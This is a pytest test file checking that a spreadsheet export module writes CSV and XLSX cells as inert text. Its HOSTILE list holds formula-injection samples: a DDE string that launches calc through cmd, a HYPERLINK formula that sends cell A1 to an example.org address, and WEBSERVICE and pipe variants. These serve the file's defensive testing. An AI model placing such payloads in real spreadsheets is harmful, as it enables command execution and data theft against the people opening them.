"""Tables for a spreadsheet: every cell comes out as it went in, and none is run as a formula."""

import csv
import datetime
import io
from pathlib import Path

import pytest

from secretariat_app.documents.tables_out import Cell, armed, csv_table, defused, write_table, xlsx_table
from secretariat_app.errors import KnownError

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1;"Смотреть")',
    "+49 7172",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "  =WEBSERVICE(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "|calc",
)
DAY = datetime.date(2022, 10, 19)


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_text_in_csv(cell: str) -> None:
    [head, row] = read_back(csv_table([cell], [[cell]]))
    assert head == row == [f"'{cell}"]
    assert armed(defused(cell)) == cell


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_text_in_xlsx(cell: str) -> None:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(xlsx_table([cell], [[cell]], "Реестр")))
    for (found,) in book.active.iter_rows():
        assert found.data_type == "s"
        assert found.quotePrefix
        assert found.value.strip() == cell.strip()


def test_plain_cells_come_out_as_they_are() -> None:
    row: list[Cell] = ["№ 12", "12/22-VII", 7, -3, DAY, None, "'в кавычке", "а;б «в»\nг"]
    [_, found] = read_back(csv_table(["а"] * len(row), [row]))
    assert found == ["№ 12", "12/22-VII", "7", "-3", "19.10.2022", "", "'в кавычке", "а;б «в»\nг"]
    assert armed("'в кавычке") == "'в кавычке"


def test_a_workbook_has_days_and_numbers_as_such() -> None:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(xlsx_table(["Дата", "№"], [[DAY, 12]], "Год [2022]: все/сразу")))
    assert book.sheetnames == ["Год -2022-- все-сразу"]
    day, number = next(book.active.iter_rows(min_row=2))
    assert day.value.date() == DAY
    assert day.number_format == "DD.MM.YYYY"
    assert number.value == 12
    assert book.active.freeze_panes == "A2"


def test_letters_that_no_file_takes_are_left_out(tmp_path: Path) -> None:
    cell = "а\x00б\x0bв\ud800г"
    for name in ("таблица.csv", "таблица.xlsx"):
        assert write_table(tmp_path / name, ["т"], [[cell]], "т").stat().st_size > 0
    assert read_back((tmp_path / "таблица.csv").read_bytes())[1] == ["абвг"]


def test_another_extension_is_refused(tmp_path: Path) -> None:
    with pytest.raises(KnownError, match=r"\.csv, \.xlsx"):
        write_table(tmp_path / "таблица.ods", [], [], "т")
    assert list(tmp_path.iterdir()) == []
